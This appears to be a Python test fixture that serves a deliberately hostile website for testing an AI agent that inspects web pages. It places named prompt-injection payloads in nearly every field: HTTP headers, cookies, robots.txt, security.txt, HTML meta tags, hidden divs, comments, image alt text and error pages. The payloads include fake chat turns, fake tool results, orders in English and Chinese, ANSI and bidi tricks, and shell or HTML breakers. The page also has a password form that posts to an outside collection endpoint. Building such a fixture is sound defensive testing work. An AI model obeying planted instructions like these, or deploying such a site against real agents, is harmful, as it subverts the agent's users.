"""The answers of a site whose every field addresses the reader instead of a browser."""

from __future__ import annotations

from typing import Final

from handfast_inspect.lab import injections
from handfast_inspect.lab.http_message import Exchange, Headers, Response
from handfast_inspect.lab.injections import PLANTED
from handfast_inspect.lab.site import OUTSIDE

_FIELD: Final = str.maketrans({"\r": " ", "\n": " "})
"""A line break would end the header: the rest goes out as it is, control characters and all."""

_HEADERS: Final[Headers] = (
    ("Server", f"nginx/1.25.3 {injections.ORDER_ENGLISH}"),
    ("X-Powered-By", injections.BREAKS_HTML),
    ("X-Note", injections.ORDER_CHINESE),
    ("X-Terminal", injections.ANSI),
    ("X-Direction", injections.BIDI),
    ("X-Invisible", injections.INVISIBLE),
    ("X-Turn", injections.FAKE_TURN),
    ("X-Tool", injections.FAKE_TOOL_RESULT),
    ("X-Shell", injections.BREAKS_SHELL),
    ("Content-Security-Policy", f"default-src 'self'; report-uri {injections.BREAKS_MARKDOWN}"),
    ("Set-Cookie", f"session={injections.BREAKS_TEMPLATE}; Path=/"),
    ("Set-Cookie", f"{injections.MARKER}<script>=1; Domain={injections.ORDER_ENGLISH}"),
    ("X-Long", "A" * 4000),
)


def respond(exchange: Exchange) -> Response:
    """Answers for the hostile site; every path has something to say."""
    headers = tuple((name, value.translate(_FIELD)) for name, value in _HEADERS)
    match exchange.path:
        case "/":
            return Response(headers=headers, body=_front_page())
        case "/robots.txt":
            body = f"User-agent: *\nDisallow: /admin/{injections.BREAKS_MARKDOWN}\n"
            body += f"# {injections.ORDER_ENGLISH}\nSitemap: {injections.BREAKS_HTML}\n"
            return Response(headers=headers, body=body.encode(), content_type="text/plain")
        case "/.well-known/security.txt" | "/security.txt":
            body = f"Contact: {injections.ORDER_ENGLISH}\nExpires: {injections.ANSI}\n"
            body += f"{injections.BREAKS_HTML}: {injections.BREAKS_SHELL}\n"
            return Response(headers=headers, body=body.encode(), content_type="text/plain")
        case _:
            shown = exchange.path + injections.FAKE_TURN + injections.BREAKS_HTML
            return Response(500, headers=headers, body=shown.encode())


def _front_page() -> bytes:
    texts = "\n".join(f"<p id='{name}'>{text}</p>" for name, text in PLANTED.items())
    return (
        f"<!doctype html><html><head><title>{injections.BREAKS_HTML} {injections.ORDER_ENGLISH}"
        f"</title><meta name='description' content=\"{injections.ORDER_CHINESE}\">"
        f"<meta name='generator' content=\"{injections.ANSI}{injections.BREAKS_TEMPLATE}\"></head>"
        f"<body><!-- {injections.ORDER_ENGLISH} -->"
        f"<div style='display:none'>{injections.ORDER_CHINESE}</div>"
        f"<img alt='{injections.FAKE_TURN_LLAMA}' src='/{injections.MARKER}.png'>"
        f"<form action='http://{OUTSIDE}/collect'><input type='password'></form>"
        f"{texts}</body></html>\n"
    ).encode()
